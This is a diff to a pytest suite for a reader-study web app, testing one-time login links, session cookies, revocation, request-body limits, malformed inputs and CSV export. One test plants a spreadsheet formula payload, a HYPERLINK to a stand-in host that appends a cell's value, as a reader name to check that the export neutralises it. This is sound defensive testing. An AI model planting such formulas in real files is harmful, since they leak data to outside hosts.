@@ -1,9 +1,11 @@
-"""The reader web app's rules: blinding, authentication, bad requests, one row per answer,
-stored orders, and 20 readers answering at once against the served app."""
+"""The reader web app's rules: blinding, authentication, one-time links, bounded bodies, bad
+requests, one row per answer, stored orders, and 20 readers answering at once against the
+served app."""
 
 from __future__ import annotations
 
 import builtins
+import io
 import json
 import socket
 import sqlite3
@@ -16,7 +18,7 @@ from conftest import READER_STUDIES, reader_run
 from fastapi.testclient import TestClient
 
 from medisyn.reader import db
-from medisyn.reader.app import SECURITY_HEADERS, create_app
+from medisyn.reader.app import MAX_BODY, SECURITY_HEADERS, SESSION_COOKIE, create_app
 from medisyn.reader.study import run
 
 OCT = "oct-condition"
@@ -28,18 +30,33 @@ def study(tmp_path):
     cfg = reader_run(tmp_path)
     out = run(cfg)
     conn = db.connect(out)
-    tokens = {
+    links = {
         "a": db.add_reader(conn, OCT, "A"),
         "b": db.add_reader(conn, OCT, "B"),
         "c": db.add_reader(conn, CHOLEC, "C"),
-        "admin": db.add_reader(conn, None, "admin", admin=True),
     }
     conn.close()
-    return out, tokens, TestClient(create_app(out))
+    client = TestClient(create_app(out))
+    tokens = {who: (rid, token, login(client, token)) for who, (rid, token) in links.items()}
+    conn = db.connect(out)
+    rid, admin = db.add_reader(conn, None, "admin", admin=True)
+    conn.close()
+    tokens["admin"] = (rid, admin, {"Authorization": f"Bearer {admin}"})
+    return out, tokens, client
+
+
+def login(client, link_token: str) -> dict:
+    """Open a reader's link as the page does: POST its token, keep the session cookie (as an
+    explicit header, so one client can hold several readers)."""
+    r = client.post("/api/session", headers={"Authorization": f"Bearer {link_token}"})
+    assert r.status_code == 200, r.text
+    session = r.cookies[SESSION_COOKIE]
+    client.cookies.clear()
+    return {"Cookie": f"{SESSION_COOKIE}={session}"}
 
 
 def auth(tokens, who):
-    return {"Authorization": f"Bearer {tokens[who][1]}"}
+    return tokens[who][2]
 
 
 def secrets_of(out: Path) -> set[str]:
@@ -272,7 +289,8 @@ def test_twenty_readers_at_once_lose_nothing_and_duplicate_nothing(tmp_path):
     def read(k, token):
         try:
             with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=30) as c:
-                h = {"Authorization": f"Bearer {token}"}
+                c.post("/api/session", headers={"Authorization": f"Bearer {token}"}).raise_for_status()
+                h = {}  # the session cookie, from the client's cookie jar
                 n = c.get("/api/session", headers=h).json()["items"]
                 for pos in range(n):
                     item = c.get(f"/api/items/{pos}", headers=h).json()["item"]
@@ -304,3 +322,174 @@ def test_twenty_readers_at_once_lose_nothing_and_duplicate_nothing(tmp_path):
         k = rid - 1
         rows = conn.execute("SELECT position, answer FROM answers WHERE reader_id = ?", (rid,)).fetchall()
         assert all(a == classes[(k + p) % 3] for p, a in rows)
+
+
+def test_a_link_opens_once_expires_and_is_revoked_or_reissued(study):
+    """#39.1: the link's token becomes a session once; the history's copy opens nothing after."""
+    out, tokens, client = study
+    rid, link, h = tokens["a"]
+    bearer = {"Authorization": f"Bearer {link}"}
+    assert client.post("/api/session", headers=bearer).status_code == 401  # used by the fixture
+    assert client.get("/api/session", headers=bearer).status_code == 401  # a link token is no credential
+    assert client.post("/api/session", headers={**bearer, **h}).status_code == 200  # back in the same browser
+    assert client.get("/api/session", headers=h).json()["reader"] == "A"
+
+    conn = db.connect(out)
+    rid2, link2 = db.add_reader(conn, OCT, "D", expiry_hours=1)
+    fresh = client.post("/api/session", headers={"Authorization": f"Bearer {link2}"})
+    cookie = fresh.headers["set-cookie"].lower()
+    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/" in cookie and "secure" not in cookie
+    assert "max-age" not in cookie and "expires" not in cookie  # ends with the browser session
+    secure = TestClient(create_app(out), base_url="https://testserver")
+    link3 = db.reissue(conn, rid2)
+    assert "Secure" in secure.post("/api/session", headers={"Authorization": f"Bearer {link3}"}).headers["set-cookie"]
+
+    _, late = db.add_reader(conn, OCT, "E", expiry_hours=1)
+    conn.execute("UPDATE readers SET link_expires_at = ? WHERE name = 'E'", ("2000-01-01T00:00:00.000+00:00",))
+    assert client.post("/api/session", headers={"Authorization": f"Bearer {late}"}).status_code == 401  # expired
+
+    item = client.get("/api/items/0", headers=h).json()["item"]
+    client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 3})
+    db.revoke(conn, rid)
+    assert client.get("/api/session", headers=h).status_code == 401
+    assert client.get(f"/api/images/{item}", headers=h).status_code == 401
+    new = db.reissue(conn, rid)
+    assert client.get("/api/session", headers=h).status_code == 401  # the old session stays ended
+    h2 = login(client, new)
+    assert client.get("/api/session", headers=h2).json()["answered"] == 1  # the answers were kept
+
+    admin = auth(tokens, "admin")
+    assert client.get("/api/admin/progress", headers=admin).status_code == 200
+    db.revoke(conn, tokens["admin"][0])
+    assert client.get("/api/admin/progress", headers=admin).status_code == 401
+
+
+def test_a_submitted_reader_gets_no_images(study):
+    out, tokens, client = study
+    h = auth(tokens, "b")
+    items = [client.get(f"/api/items/{p}", headers=h).json()["item"] for p in range(15)]
+    for item in items:
+        client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 2})
+    assert client.get(f"/api/images/{items[0]}", headers=h).status_code == 200
+    assert client.post("/api/submit", headers=h).status_code == 200
+    r = client.get(f"/api/images/{items[0]}", headers=h)
+    assert r.status_code == 403 and r.headers["content-type"].startswith("application/json")
+    assert client.get("/api/session", headers=h).json()["submitted"] is True  # the page can still say so
+
+
+def test_a_version_1_database_is_migrated_and_its_links_work_once(study):
+    out, tokens, client = study
+    conn = db.connect(out)
+    rid, link = db.add_reader(conn, OCT, "old")
+    conn.execute("DROP TABLE sessions")
+    for column in ("link_expires_at", "link_used_at", "revoked_at"):
+        conn.execute(f"ALTER TABLE readers DROP COLUMN {column}")
+    conn.execute("PRAGMA user_version = 0")
+    conn.close()
+    client = TestClient(create_app(out))
+    h = login(client, link)
+    assert client.get("/api/session", headers=h).json()["reader"] == "old"
+    assert client.post("/api/session", headers={"Authorization": f"Bearer {link}"}).status_code == 401
+    assert db.connect(out).execute("PRAGMA user_version").fetchone()[0] == db.SCHEMA_VERSION
+
+
+def test_bodies_are_refused_unread_without_a_credential_and_when_too_long(study):
+    """#39.2: 401 before the body is read, 413 above MAX_BODY, 411 for a body of unstated length."""
+    out, tokens, client = study
+    app = create_app(out)
+    read = []
+
+    async def spy(scope, receive, send):
+        async def counted():
+            message = await receive()
+            read.append(len(message.get("body", b"")))
+            return message
+
+        await app(scope, counted, send)
+
+    spied = TestClient(spy)
+    h = auth(tokens, "a")
+    item = client.get("/api/items/0", headers=h).json()["item"]
+    big = b'{"answer": "drusen", "confidence": 3, "x": "' + b"a" * (4 << 20) + b'"}'
+    typed = {"Content-Type": "application/json"}
+    for headers, status in ((typed, 401), ({**typed, "Authorization": "Bearer nope"}, 401), ({**typed, **h}, 413)):
+        read.clear()
+        r = spied.put(f"/api/answers/{item}", headers=headers, content=big)
+        assert r.status_code == status, (headers, r.status_code)
+        assert sum(read) == 0, read  # not a byte of it reached the app
+        for k, v in SECURITY_HEADERS.items():
+            assert r.headers[k] == v
+    r = spied.put(f"/api/answers/{item}", headers={**typed, **h}, content=iter([b'{"answer": "drusen", ', b"}"]))
+    assert r.status_code == 411
+    assert spied.post("/api/session", content=b"x" * (MAX_BODY + 1)).status_code == 413
+    ok = spied.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 3})
+    assert ok.status_code == 200
+
+
+def test_odd_inputs_give_4xx_and_every_error_carries_the_security_headers(study, monkeypatch):
+    """#39.4: 2^63 as a position, NaN as a confidence, and a 500 all reply with the same headers."""
+    import medisyn.reader.app as app_module
+
+    out, tokens, client = study
+    h = auth(tokens, "a")
+    item = client.get("/api/items/0", headers=h).json()["item"]
+    replies = [
+        (client.get(f"/api/items/{2**63}", headers=h), 404),
+        (client.get(f"/api/items/{10**30}", headers=h), 404),
+        (client.put(f"/api/answers/{item}", headers={**h, "Content-Type": "application/json"},
+                    content=b'{"answer": "drusen", "confidence": NaN}'), 422),
+        (client.put(f"/api/answers/{item}", headers={**h, "Content-Type": "application/json"},
+                    content=b'{"answer": "drusen", "confidence": 3, "active_ms": Infinity}'), 422),
+    ]  # fmt: skip
+    monkeypatch.setattr(app_module, "vary", lambda data, key: 1 / 0)
+    replies.append((TestClient(create_app(out)).get(f"/api/images/{item}", headers=h), 500))
+    for r, status in replies:
+        assert r.status_code == status, (r.status_code, r.text)
+        for k, v in SECURITY_HEADERS.items():
+            assert r.headers[k] == v
+        body = json.loads(r.text)  # strict JSON: a NaN would not parse as a constant here
+        assert "Traceback" not in r.text and "ZeroDivision" not in r.text and "NaN" not in r.text, body
+
+
+def test_two_showings_of_one_image_hash_apart(study):
+    """#39.3: hashing a reader's images pairs no repeat; length and headers stay equal."""
+    import hashlib
+    import io
+
+    import numpy as np
+    from PIL import Image
+
+    out, tokens, client = study
+    h = auth(tokens, "a")
+    conn = db.connect(out)
+    image_of = {r["item_id"]: (r["image_id"], r["file"]) for r in conn.execute(
+        "SELECT t.item_id, t.image_id, i.file FROM items t JOIN images i ON i.image_id = t.image_id")}  # fmt: skip
+    served = {}
+    for pos in range(15):
+        item = client.get(f"/api/items/{pos}", headers=h).json()["item"]
+        served[item] = client.get(f"/api/images/{item}", headers=h).content
+    assert len({hashlib.sha256(b).hexdigest() for b in served.values()}) == 15  # 12 images, 3 shown twice
+    assert len({image_of[i][0] for i in served}) == 12 and len({len(b) for b in served.values()}) == 1
+    for item, data in served.items():
+        stored = np.asarray(Image.open(out / "images" / f"{image_of[item][1]}.bmp"), dtype=int)
+        shown = np.asarray(Image.open(io.BytesIO(data)), dtype=int)
+        diff = np.abs(shown - stored)
+        assert diff.max() == 1 and 0 < (diff > 0).mean() < 0.1  # imperceptible, yet there
+        assert data[:54] == (out / "images" / f"{image_of[item][1]}.bmp").read_bytes()[:54]
+    again = client.get(f"/api/images/{item}", headers=h).content
+    assert again == served[item]  # a showing is stable across reloads
+
+
+def test_csv_cells_cannot_run_as_formulas(study):
+    """#39.7: a reader name set to a formula is written as text in the admin's CSV."""
+    out, tokens, client = study
+    conn = db.connect(out)
+    _, link = db.add_reader(conn, OCT, '=HYPERLINK("http://x.example/?"&A1,"open")')
+    h = login(client, link)
+    item = client.get("/api/items/0", headers=h).json()["item"]
+    client.put(f"/api/answers/{item}", headers=h, json={"answer": "drusen", "confidence": 3})
+    text = client.get("/api/admin/answers.csv", headers=auth(tokens, "admin")).text
+    import csv
+
+    names = [row["reader_name"] for row in csv.DictReader(io.StringIO(text))]
+    assert names == ['\'=HYPERLINK("http://x.example/?"&A1,"open")']
